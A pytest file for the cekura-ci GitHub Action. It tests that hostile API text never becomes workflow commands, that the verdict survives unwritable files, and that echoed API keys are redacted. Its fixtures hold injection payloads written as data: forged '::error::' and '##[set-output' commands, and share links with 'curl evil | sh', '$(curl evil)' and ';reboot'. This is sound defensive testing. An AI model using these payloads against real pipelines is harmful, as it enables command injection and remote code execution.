"""Hostile answers and broken disks at the action's front door: API text never becomes a workflow
command (`::` at the start of a line, `##[` anywhere), odd but legal text never crashes the gate,
and a file that cannot be written never changes the verdict."""

from __future__ import annotations

import html
import json
import re
import socket
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
import responses

from cekura_ci import cli
from cekura_ci.client import RESULTS_PATH, TRIGGER_PATH
from tests.helpers import API_KEY, FakeClock, read_outputs
from tests.test_entrypoint import action_env

BASE = "https://api.cekura.test"
RESULT = BASE + RESULTS_PATH + "77/"
EVIL = "::error::owned ##[set-output name=passed]true ##[add-mask]x %0A::warning::y"
#: The commands cekura-ci itself prints; anything else starting a line with `::` is injected.
OUR_COMMANDS = re.compile(
    r"^::(add-mask|error|warning|notice|debug|group|endgroup|stop-commands)( [^:]*)?::"
    r"|^::[0-9a-f]{32}::$"
)


def hostile_run(run_id: int, outcome: str) -> dict:
    run = {
        "id": run_id,
        "scenario": 101 + run_id % 2,
        "scenario_name": f"{EVIL} \ud800 name",
        "status": "completed",
        "success": outcome == "pass",
        "duration": EVIL,
        "transcript_object": [{"role": EVIL, "content": EVIL}],
    }
    if outcome == "fail":
        run["error_message"] = f"##[stop-commands]tok\n{EVIL}"
        run["evaluation"] = {"metrics": [{"name": EVIL, "type": "binary", "score": 0}]}
        run["expected_outcome"] = {"explanation": [f"❌ {EVIL}"]}
    return run


#: What a line would start with had the payload above become a command of its own.
INJECTED = re.compile(r"^\s*::(error|warning)::(owned|y)")


def assert_no_injected_command(stdout: str) -> None:
    for line in stdout.splitlines():
        assert "##[" not in line, line
        assert not INJECTED.match(line), line
        if line.lstrip().startswith("::"):
            assert OUR_COMMANDS.match(line), line


@responses.activate
def test_gate_when_every_api_text_carries_commands_prints_none_of_them(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """Status words, names, errors, metrics, transcripts, durations and a retry's Content-Type."""
    responses.post(BASE + TRIGGER_PATH, json={"id": 77, "status": "pending", "runs": []})
    responses.get(RESULT, body="<html>", status=503, content_type="text/html ##[error]x ::error::y")
    responses.get(RESULT, json={"id": 77, "status": f"running {EVIL}", "runs": {}})
    runs = [hostile_run(1, "pass"), hostile_run(2, "fail"), hostile_run(3, "fail")]
    responses.get(
        RESULT,
        json={
            "id": 77,
            "name": EVIL,
            "status": "completed",
            "runs": {str(r["id"]): r for r in runs},
        },
    )
    env = action_env(
        workspace,
        api_key=API_KEY,
        agent_id="42",
        scenario_ids="101,102",
        api_url=BASE,
        name=f"gate {EVIL}",
        poll_interval="5",
        junit_file="junit.xml",
        report_file="report.json",
    )
    env["RUNNER_DEBUG"] = "1"
    assert cli.action_main(env, clock=clock) == 1
    stdout = capsys.readouterr().out
    assert "owned" in stdout  # the text is shown, as data
    assert_no_injected_command(stdout)
    assert read_outputs(workspace / "github_output")["passed"] == "false"


@responses.activate
def test_gate_when_refused_with_hostile_detail_prints_no_command(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """An error body's words reach the error line and the summary as data only."""
    responses.post(BASE + TRIGGER_PATH, status=400, json={"agent": [EVIL], "detail": EVIL})
    env = action_env(workspace, api_key=API_KEY, agent_id="42", scenario_ids="101", api_url=BASE)
    assert cli.action_main(env, clock=clock) == 2
    assert_no_injected_command(capsys.readouterr().out)


@responses.activate
@pytest.mark.parametrize("runner_file", ["GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT"])
def test_gate_when_a_runner_file_cannot_be_written_keeps_the_passing_verdict(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock, runner_file: str
) -> None:
    """/dev/full as the step summary or the outputs file: a warning, and still exit 0."""
    responses.post(BASE + TRIGGER_PATH, json={"id": 77, "status": "pending", "runs": []})
    passing = {"id": 1, "scenario": 101, "status": "completed", "success": True}
    responses.get(RESULT, json={"id": 77, "status": "completed", "runs": {"1": passing}})
    env = action_env(workspace, api_key=API_KEY, agent_id="42", scenario_ids="101", api_url=BASE)
    env[runner_file] = "/dev/full"
    assert cli.action_main(env, clock=clock) == 0
    out = capsys.readouterr().out
    assert "::warning::Could not write" in out and "the verdict stands" in out
    assert (workspace / "cekura-summary.md").exists()


@responses.activate
@pytest.mark.parametrize("name", ["summary_file", "junit_file", "report_file"])
def test_gate_when_a_report_path_is_a_directory_exits_2_before_sending(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock, name: str
) -> None:
    """Found before the paid run, named, and nothing is sent."""
    (workspace / "reports").mkdir()
    env = action_env(
        workspace,
        api_key=API_KEY,
        agent_id="42",
        scenario_ids="101",
        api_url=BASE,
        **{name: "reports"},
    )
    assert cli.action_main(env, clock=clock) == 2
    assert len(responses.calls) == 0
    out = capsys.readouterr().out
    assert f"Invalid input '{name}': cannot write 'reports': it is an existing directory" in out


@responses.activate
@pytest.mark.parametrize(
    ("inputs", "named", "why"),
    [
        ({"junit_file": "out.xml", "report_file": "out.xml"}, "report_file", "also junit_file"),
        ({"summary_file": "step_summary.md"}, "summary_file", "also a file the runner reads"),
        ({"report_file": "github_output"}, "report_file", "also a file the runner reads"),
    ],
)
def test_gate_when_report_paths_collide_exits_2_before_sending(
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
    clock: FakeClock,
    inputs: dict[str, str],
    named: str,
    why: str,
) -> None:
    """Two reports in one file, or a report over $GITHUB_STEP_SUMMARY or $GITHUB_OUTPUT, would
    garble both: refused before the paid run."""
    env = action_env(
        workspace, api_key=API_KEY, agent_id="42", scenario_ids="101", api_url=BASE, **inputs
    )
    assert cli.action_main(env, clock=clock) == 2
    assert len(responses.calls) == 0
    out = capsys.readouterr().out
    assert f"Invalid input '{named}'" in out and why in out


@responses.activate
def test_gate_when_a_report_cannot_be_written_after_the_run_warns_and_keeps_the_verdict(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """A report file that turns unwritable while waiting: a warning, the verdict's exit code."""
    responses.post(BASE + TRIGGER_PATH, json={"id": 77, "status": "pending", "runs": []})
    responses.get(RESULT, json={"id": 77, "status": "running", "runs": {}})
    failing = {"id": 1, "scenario": 101, "status": "completed", "success": False}
    responses.get(RESULT, json={"id": 77, "status": "completed", "runs": {"1": failing}})
    clock.at(5, lambda: (workspace / "out" / "report.json").mkdir(parents=True))
    env = action_env(
        workspace,
        api_key=API_KEY,
        agent_id="42",
        scenario_ids="101",
        api_url=BASE,
        poll_interval="10",
        report_file="out/report.json",
    )
    assert cli.action_main(env, clock=clock) == 1
    out = capsys.readouterr().out
    assert "Could not write report_file 'out/report.json'" in out and "Unexpected" not in out
    outputs = read_outputs(workspace / "github_output")
    assert outputs["outcome"] == "failed" and outputs["report_file"] == ""


@responses.activate
def test_gate_when_the_api_echoes_the_key_keeps_it_out_of_every_file_in_any_escaping(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """Markdown would write `ck\\_test…`, HTML `ck&#95;…`: the key is removed before escaping,
    and the JSON and JUnit files stay valid with their numbers intact."""
    responses.post(BASE + TRIGGER_PATH, json={"id": 77, "status": "pending", "runs": []})
    echo = {
        "id": 123456,
        "scenario": 101,
        "scenario_name": f"Leak {API_KEY}",
        "status": "failed",
        "success": False,
        "error_message": f"bad key <{API_KEY}>",
    }
    responses.get(
        RESULT, json={"id": 77, "name": API_KEY, "status": "completed", "runs": {"123456": echo}}
    )
    env = action_env(
        workspace,
        api_key=API_KEY,
        agent_id="42",
        scenario_ids="101",
        api_url=BASE,
        junit_file="junit.xml",
        report_file="report.json",
    )
    assert cli.action_main(env, clock=clock) == 1
    written = [capsys.readouterr().out] + [
        p.read_text() for p in workspace.iterdir() if p.is_file()
    ]
    for text in written:
        for form in (text, text.replace("\\", ""), html.unescape(text)):
            assert API_KEY not in form.replace("::add-mask::" + API_KEY, "")
    report = json.loads((workspace / "report.json").read_text())
    assert report["scenarios"][0]["runs"][0]["run_id"] == 123456
    assert "Leak ***" in report["scenarios"][0]["scenario_name"]
    ET.parse(workspace / "junit.xml")
    assert read_outputs(workspace / "github_output")["result_id"] == "77"


@responses.activate
def test_error_summary_when_the_refusal_echoes_the_key_does_not_show_it(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """A 401 whose detail repeats the key: redacted before the Markdown escaping, not after."""
    responses.post(BASE + TRIGGER_PATH, status=401, json={"detail": f"Invalid key {API_KEY}."})
    env = action_env(workspace, api_key=API_KEY, agent_id="42", scenario_ids="101", api_url=BASE)
    assert cli.action_main(env, clock=clock) == 2
    capsys.readouterr()
    for path in ("step_summary.md", "cekura-summary.md"):
        text = (workspace / path).read_text()
        assert "Invalid key \\*\\*\\*" in text
        assert API_KEY not in text.replace("\\", "") and API_KEY not in html.unescape(text)


@responses.activate
@pytest.mark.parametrize(
    "broken",
    [
        "cekura_ci.report.markdown.render_summary",
        "cekura_ci.report.markdown.render_console",
        "cekura_ci.report.junit.render_junit",
        "cekura_ci.publish.annotate",
    ],
)
def test_gate_when_a_report_renderer_fails_keeps_the_verdict_and_the_other_reports(
    workspace: Path,
    capsys: pytest.CaptureFixture[str],
    clock: FakeClock,
    monkeypatch: pytest.MonkeyPatch,
    broken: str,
) -> None:
    """A bug in one renderer is a warning: exit 1 stays 1, the outputs and other reports stand."""

    def explode(*_args: object, **_kwargs: object) -> str:
        raise RuntimeError("renderer bug")

    monkeypatch.setattr(broken, explode)
    responses.post(BASE + TRIGGER_PATH, json={"id": 77, "status": "pending", "runs": []})
    failing = {"id": 1, "scenario": 101, "status": "completed", "success": False}
    responses.get(RESULT, json={"id": 77, "status": "completed", "runs": {"1": failing}})
    env = action_env(
        workspace,
        api_key=API_KEY,
        agent_id="42",
        scenario_ids="101",
        api_url=BASE,
        junit_file="junit.xml",
        report_file="report.json",
    )
    assert cli.action_main(env, clock=clock) == 1
    out = capsys.readouterr().out
    assert "RuntimeError: renderer bug); the verdict stands." in out and "Unexpected" not in out
    outputs = read_outputs(workspace / "github_output")
    assert outputs["outcome"] == "failed" and outputs["passed"] == "false"
    assert json.loads((workspace / "report.json").read_text())["outcome"] == "failed"


@responses.activate
def test_dry_run_when_the_price_answer_echoes_the_key_keeps_it_out_of_the_plan(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """The plan's currency, credits and refusals are API text too: redacted before the Markdown
    escaping (`ck\\_test…` once slipped into the summary), and clipped."""
    from cekura_ci.client import CekuraClient as C

    responses.get(BASE + C.AGENTS_PATH + "42/", json={"id": 42, "agent_name": f"A {API_KEY}"})
    responses.get(
        BASE + C.SCENARIOS_PATH,
        json={"next": None, "results": [{"id": 101, "name": f"S {API_KEY}", "agent": 42}]},
    )
    responses.get(BASE + C.EXPORT_PATH, json={"scenarios": []})
    currency = f"credits {API_KEY} " + "x" * 300_000
    responses.post(
        BASE + C.ESTIMATE_PATH,
        json={"dry_run": True, "estimated_cost": "1" * 1000, "currency": currency},
    )
    responses.get(BASE + C.BILLING_PATH, body="{}", content_type=f"{API_KEY}; x")
    env = action_env(
        workspace, api_key=API_KEY, agent_id="42", scenario_ids="101", api_url=BASE, dry_run="true"
    )
    assert cli.action_main(env, clock=clock) == 0
    stdout = capsys.readouterr().out
    for text in (
        stdout.replace(f"::add-mask::{API_KEY}", ""),
        (workspace / "step_summary.md").read_text(),
        (workspace / "cekura-summary.md").read_text(),
    ):
        for form in (text, text.replace("\\", ""), html.unescape(text)):
            assert API_KEY not in form
        assert len(text) < 50_000
    assert read_outputs(workspace / "github_output")["estimated_cost"] == ""


def test_action_when_connections_are_refused_leaves_urllib3s_retry_chatter_out_of_annotations(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """urllib3 warns of each connection retry; on the runner those were `::warning::`
    annotations, two per blip, using up the step's ten before any scenario's."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{probe.getsockname()[1]}"
    env = action_env(
        workspace,
        api_key=API_KEY,
        agent_id="42",
        scenario_ids="101",
        api_url=closed,
        max_outage="1",
    )
    assert cli.action_main(env, clock=clock) == 3
    stdout = capsys.readouterr().out
    assert "Starting the run failed" in stdout  # our own retry lines say what happened
    assert "Retrying (Retry(" not in stdout
    env["RUNNER_DEBUG"] = "1"
    assert cli.action_main(env, clock=FakeClock()) == 3
    debug = capsys.readouterr().out
    assert "::debug::Retrying (Retry(" in debug and "::warning::Retrying" not in debug


@responses.activate
@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        'https://x.example/"; curl evil | sh; "',
        "https://x.example/$(curl evil)",
        "https://x/\n::error::y",
        "https://x.example/;reboot",
        "https://x.example/&touch",
    ],
)
def test_share_link_when_not_an_https_address_is_not_output(
    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock, link: str
) -> None:
    """The share link becomes the result_url output, which later steps interpolate: only an
    https address on one line, without quotes or spaces, is used; the verdict stands."""
    passing = {"id": 1, "scenario": 101, "status": "completed", "success": True}
    responses.get(RESULT, json={"id": 77, "status": "completed", "runs": {"1": passing}})
    responses.post(
        RESULT + "create_shareable_link_token/", json={"token": "t", "shareable_link": link}
    )
    env = action_env(
        workspace, api_key=API_KEY, agent_id="42", result_id="77", api_url=BASE, share_link="true"
    )
    assert cli.action_main(env, clock=clock) == 0
    assert read_outputs(workspace / "github_output")["result_url"] == ""
    assert "share link for result 77 is not an https address" in capsys.readouterr().out


def test_gate_when_compared_and_planned_with_hostile_names_prints_no_command(
    make_world, serve, workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock
) -> None:
    """The comparison, the history, the selection log and the dry-run plan print API text too."""
    tag = EVIL.replace(",", " ")  # a tag may hold anything but the comma that separates tags
    hostile = [
        {"id": 101, "name": f"{EVIL} one", "agent": 42, "tags": [tag]},
        {"id": 102, "name": f"{EVIL} two", "agent": 42, "tags": [tag], "outcome": "fail"},
    ]
    server = serve(make_world(hostile, speed=1), clock=clock.now)
    inputs = {"api_key": API_KEY, "agent_id": "42", "api_url": server.url, "poll_interval": "5"}
    event = workspace / "push.json"
    event.write_text(json.dumps({"repository": {"default_branch": "main"}}))
    push = {"GITHUB_EVENT_NAME": "push", "GITHUB_REF_NAME": "main", "GITHUB_HEAD_REF": ""}
    push["GITHUB_EVENT_PATH"] = str(event)
    runs = [
        action_env(workspace, push, **inputs, scenario_ids="101,102", baseline="auto"),
        action_env(
            workspace,
            {"GITHUB_BASE_REF": "main"},
            **inputs,
            scenario_tags=tag,
            baseline="auto",
            history="3",
        ),
        action_env(workspace, None, **inputs, scenario_tags=tag, dry_run="true"),
    ]
    codes = [cli.action_main(env, clock=clock) for env in runs]
    assert codes == [1, 0, 0]  # 102 fails on main; the pull request does not regress; planned
    stdout = capsys.readouterr().out
    assert "Compared with main" in (workspace / "step_summary.md").read_text()
    assert "Dry run" in stdout and "owned" in stdout
    assert_no_injected_command(stdout)
